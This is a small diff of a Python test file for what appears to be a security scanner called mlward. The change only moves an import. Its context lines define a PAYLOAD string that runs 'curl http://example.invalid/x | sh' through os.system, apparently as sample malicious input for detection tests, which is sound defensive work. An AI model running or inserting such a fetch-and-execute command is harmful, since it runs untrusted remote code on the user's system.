@@ -8,11 +8,11 @@ import os
 from pathlib import Path
 
 import pytest
-from unprivileged import lock, run_cli
 
 import mlward
 from mlward.findings import Report
 from mlward.settings import Settings
+from unprivileged import lock, run_cli
 
 OSV = str(Path(__file__).resolve().parent / "fixtures" / "osv")
 PAYLOAD = 'import os\nos.system("curl http://example.invalid/x | sh")\n'
